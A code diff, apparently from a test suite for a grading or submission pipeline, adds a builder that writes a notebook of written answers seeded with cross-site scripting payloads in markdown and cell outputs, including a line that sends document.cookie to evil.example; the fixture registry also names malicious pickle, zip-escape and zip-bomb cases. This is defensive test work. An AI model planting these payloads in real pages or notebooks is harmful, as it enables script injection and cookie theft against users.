@@ -120,6 +120,41 @@ def latin1_source(batch, name, scratch):
     return batch / name
 
 
+def scripted_written_answers(batch, name, scratch):
+    """The AE beside a notebook of written answers whose markup and outputs would run script if pasted as they
+    are: <script>, <img onerror>, a javascript: link, an iframe, inline SVG; a PNG payload that breaks out of
+    src="..." when decoded loosely, an SVG image with onload, an HTML output with a script, a 'JPEG' that is one."""
+    import base64
+
+    _ae_files(batch / name)
+    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()
+
+    def output(data):
+        return {"output_type": "display_data", "metadata": {}, "data": data}
+
+    cells = [
+        ("markdown", "# Exercise 2: written answers", None),
+        ("markdown", "## Problem 1.1\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
+                     "<img src=x onerror=\"alert('markdown')\">\n[click me](javascript:alert('link'))\n"
+                     "<iframe src=\"https://evil.example\"></iframe>\nThe answer is below.", None),
+        ("code", "show()", [
+            output({"image/png": png + '" onload="alert(\'png\')', "text/plain": "<Figure>"}),
+            output({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
+                                     "<script>alert(1)</script></svg>", "text/plain": "<svg figure>"}),
+            output({"text/html": "<script>alert('html output')</script>",
+                    "text/plain": "<b onmouseover=alert(1)>x</b>"}),
+            output({"image/jpeg": base64.b64encode(b"<script>alert('not a jpeg')</script>").decode()})]),
+        ("markdown", "## Problem 2.1\n<svg><script>alert('inline svg')</script></svg>\n"
+                     "<a href=\"javascript:alert(2)\">answer</a>", None),
+    ]
+    notebook = {"cells": [{"cell_type": kind, "id": f"cell-{index}", "metadata": {}, "source": source,
+                           **({"execution_count": 1, "outputs": outputs} if kind == "code" else {})}
+                          for index, (kind, source, outputs) in enumerate(cells)],
+                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    (batch / name / "written_answers.ipynb").write_text(json.dumps(notebook, indent=1))
+    return batch / name
+
+
 def weights_that_unpack_large(batch, name, scratch):
     _ae_files(batch / name)
     _zeros_weight_file(scratch / "zeros.pt", 8)
@@ -129,7 +164,7 @@ def weights_that_unpack_large(batch, name, scratch):
 
 
 BUILDERS = {f.__name__: f for f in (malicious_pickle, escaping_zip, zip_bomb, huge_source, latin1_source,
-                                    weights_that_unpack_large)}
+                                    scripted_written_answers, weights_that_unpack_large)}
 
 
 # ---------------------------------------------------------------- the batch
